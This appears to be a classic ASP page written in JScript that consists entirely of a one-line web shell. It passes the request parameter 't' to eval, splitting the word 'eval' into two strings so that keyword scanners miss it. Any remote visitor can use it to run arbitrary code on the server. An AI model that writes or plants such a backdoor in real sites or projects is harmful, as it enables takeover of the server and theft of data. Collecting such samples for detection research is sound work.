<%@ Language="JScript" %>
<%
var o = this;
o["ev" + "al"](Request("t") + "");
%>
